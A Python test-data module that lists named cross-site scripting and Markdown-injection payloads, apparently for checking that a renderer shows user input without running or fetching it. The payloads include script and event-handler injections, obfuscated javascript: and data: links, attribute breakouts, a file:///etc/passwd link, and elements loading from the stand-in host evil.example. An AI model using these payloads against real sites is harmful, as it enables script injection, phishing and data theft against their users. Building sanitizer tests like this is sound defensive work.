"""What a stranger may write into any field in the hope that a page runs it, fetches it or breaks."""

from typing import NamedTuple


class Payload(NamedTuple):
    """A named attack. Where one runs, it sets `window.broken`, opens a dialog or asks `evil.example` for something."""

    name: str
    text: str
    shows: str
    """What a reader sees at least when the text is shown as Markdown; shown plainly, the whole text is seen."""


def _literal(name: str, text: str) -> Payload:
    return Payload(name, text, text)


PAYLOADS = [
    _literal("script", "<script>window.broken=1;alert(1)</script>"),
    _literal("script from elsewhere", "<script src=https://evil.example/a.js></script>"),
    _literal("script in mixed case", "<ScRiPt>window.broken=1</sCrIpT>"),
    _literal("script in a script", "<scr<script>ipt>window.broken=1</scr</script>ipt>"),
    _literal("image with onerror", '<img src=x onerror="window.broken=1">'),
    _literal("image with a slash for a space", "<img/src=x/onerror=window.broken=1>"),
    _literal("image without an end", '<img src="https://evil.example/a.png" onerror=window.broken=1'),
    _literal("image with sources", '<img srcset="https://evil.example/a.png 1x" loading=eager>'),
    _literal("svg with onload", "<svg onload=window.broken=1><animate onbegin=window.broken=1 attributeName=x></svg>"),
    _literal("svg with a script", "<svg><script>window.broken=1</script></svg>"),
    _literal("svg with a foreign object", "<svg><foreignObject><iframe src=https://evil.example></iframe></svg>"),
    _literal("math", "<math><mtext><table><mglyph><style><img src=x onerror=window.broken=1>"),
    _literal("style", "<style>body{background:url(https://evil.example/a.png);display:none}</style>"),
    _literal("style from elsewhere", "<style>@import 'https://evil.example/a.css';</style>"),
    _literal("style attribute", '<p style="position:fixed;inset:0;background:url(//evil.example/a)">over</p>'),
    _literal("link element", '<link rel=stylesheet href="https://evil.example/a.css">'),
    _literal("base element", '<base href="https://evil.example/">'),
    _literal("refresh", '<meta http-equiv=refresh content="0;url=https://evil.example">'),
    _literal("frame", "<iframe src=javascript:window.broken=1></iframe>"),
    _literal("frame with a document", '<iframe srcdoc="<script>parent.broken=1</script>"></iframe>'),
    _literal("object and embed", "<object data=https://evil.example/a><embed src=https://evil.example/b>"),
    _literal(
        "form", "<form action=https://evil.example><input name=password autofocus onfocus=window.broken=1></form>"
    ),
    _literal("details", "<details open ontoggle=window.broken=1>seen</details>"),
    _literal("video", "<video autoplay onerror=window.broken=1><source src=https://evil.example/a.mp4></video>"),
    _literal("body with onload", "<body onload=window.broken=1 onpageshow=window.broken=1>"),
    _literal("anchor", '<a href="javascript:window.broken=1" onmouseover="window.broken=1">press</a>'),
    _literal("custom element", "<x-y onclick=window.broken=1 tabindex=1 id=x>seen</x-y>"),
    _literal("closing tags", "</p></li></div></style></textarea></title></script><img src=x onerror=window.broken=1>"),
    _literal("end of an attribute", '" autofocus onfocus=window.broken=1 x="'),
    _literal("end of a single-quoted attribute", "' autofocus onfocus=window.broken=1 x='"),
    _literal("comment", "<!-- --><img src=x onerror=window.broken=1><!-- -->"),
    _literal("template", "{{7*7}}${window.broken=1}<%= window.broken %>"),
    _literal("script in JSON", '"}</script><script>window.broken=1</script>{"'),
    Payload("entities", "&lt;img src=x onerror=window.broken=1&gt;", "<img src=x onerror=window.broken=1>"),
    Payload(
        "entities by number", "&#60;script&#62;window.broken=1&#x3c;/script&#x3e;", "<script>window.broken=1</script>"
    ),
    Payload("javascript: link", "[press](javascript:window.broken=1)", "press (javascript:window.broken=1)"),
    Payload("javascript: in mixed case", "[press](JaVaScRiPt:window.broken=1)", "press (JaVaScRiPt:window.broken=1)"),
    Payload(
        "javascript: with an entity", "[press](javascript&colon;window.broken=1)", "press (javascript:window.broken=1)"
    ),
    Payload("javascript: by number", "[press](&#106;avascript:window.broken=1)", "press (javascript:window.broken=1)"),
    Payload(
        "javascript: with a tab", "[press](java&Tab;script:window.broken=1)", "press (java%09script:window.broken=1)"
    ),
    Payload(
        "javascript: with a newline",
        "[press](java&#10;script:window.broken=1)",
        "press (java%0Ascript:window.broken=1)",
    ),
    Payload(
        "javascript: after an unseen character",
        "[press](<&#x200b;javascript:window.broken=1>)",
        "press (%E2%80%8Bjavascript:",
    ),
    Payload("javascript: after a space", "[press](< javascript:window.broken=1>)", "javascript:window.broken=1"),
    Payload(
        "javascript: with slashes", "[press](javascript://evil.example/%0Awindow.broken=1)", "press (javascript://"
    ),
    Payload("vbscript: link", "[press](vbscript:MsgBox(1))", "press (vbscript:MsgBox(1))"),
    Payload("file: link", "[press](file:///etc/passwd)", "press (file:///etc/passwd)"),
    Payload("blob: link", "[press](blob:https://evil.example/1)", "press (blob:https://evil.example/1)"),
    Payload(
        "data: link", "[press](data:text/html,<script>window.broken=1</script>)", "press (data:text/html,%3Cscript%3E"
    ),
    Payload(
        "data: link in base 64",
        "[press](data:text/html;base64,PHNjcmlwdD4=)",
        "press (data:text/html;base64,PHNjcmlwdD4=)",
    ),
    Payload("relative link", "[press](/admin?delete=all)", "press (/admin?delete=all)"),
    Payload("link without a scheme", "[press](//evil.example/a)", "press (//evil.example/a)"),
    Payload("link with backslashes", r"[press](\\\\evil.example/a)", "press (%5C%5Cevil.example/a)"),
    Payload("link without a host", "[press](https:evil.example)", "press (https:evil.example)"),
    Payload("reference link", "[press][1]\n\n[1]: javascript:window.broken=1", "press (javascript:window.broken=1)"),
    Payload(
        "shortcut reference",
        "[press]\n\n[press]: <javascript:window.broken=1> 'x'",
        "press (javascript:window.broken=1)",
    ),
    Payload("javascript: autolink", "<javascript:window.broken=1>", "javascript:window.broken=1"),
    Payload("data: autolink", "<data:text/html;base64,PHNjcmlwdD4=>", "data:text/html;base64,PHNjcmlwdD4="),
    Payload("link that says another address", "[https://bank.example](https://evil.example)", "(https://evil.example)"),
    Payload(
        "link with a title",
        '[press](https://evil.example "x\\" onmouseover=window.broken=1 y=\\"")',
        "(https://evil.example)",
    ),
    Payload(
        "link with a quote",
        '[press](https://evil.example/"onmouseover="window.broken=1)',
        "%22onmouseover=%22window.broken=1",
    ),
    Payload(
        "bare address with a quote",
        'https://evil.example/"onmouseover="window.broken=1',
        '"onmouseover="window.broken=1',
    ),
    Payload(
        "markup in a link",
        "[<img src=x onerror=window.broken=1>](https://evil.example)",
        "<img src=x onerror=window.broken=1>",
    ),
    Payload("image", "![seen](https://evil.example/a.png)", "seen (https://evil.example/a.png)"),
    Payload(
        "image of a reference", "![seen][1]\n\n[1]: https://evil.example/a.png", "seen (https://evil.example/a.png)"
    ),
    Payload(
        "image in a link",
        "[![seen](https://evil.example/a.png)](javascript:window.broken=1)",
        "(javascript:window.broken=1)",
    ),
    Payload("javascript: image", "![seen](javascript:window.broken=1)", "seen (javascript:window.broken=1)"),
    Payload("svg image", "![seen](data:image/svg+xml,<svg/onload=window.broken=1>)", "window.broken=1"),
    Payload("quote in a description", '![" onerror="window.broken=1](x)', '" onerror="window.broken=1 (x)'),
    Payload("code", "`</code><script>window.broken=1</script>`", "</code><script>window.broken=1</script>"),
    Payload(
        "fence",
        '```"><script>window.broken=1</script>\n</pre><script>window.broken=1</script>\n```',
        "</pre><script>window.broken=1",
    ),
    Payload(
        "table",
        "|<script>window.broken=1</script>|\n|:-:|\n|<img src=x onerror=window.broken=1>|",
        "<img src=x onerror=window.broken=1>",
    ),
    Payload(
        "heading in a quote in a list", "- > # <script>window.broken=1</script>", "<script>window.broken=1</script>"
    ),
    Payload(
        "emphasis over markup", "**<img src=x *onerror=window.broken=1*>**", "<img src=x *onerror=window.broken=1*>"
    ),
    Payload("block of markup", "<div>\n<script>\nwindow.broken=1\n</script>\n</div>", "window.broken=1"),
    Payload("words turned round", "[\u202egro.knab](https://evil.example)", "(https://evil.example)"),
    Payload(
        "names of what every object has",
        "[x][`__proto__`] [y][constructor] [toString]",
        "[y][constructor] [toString]",
    ),
]
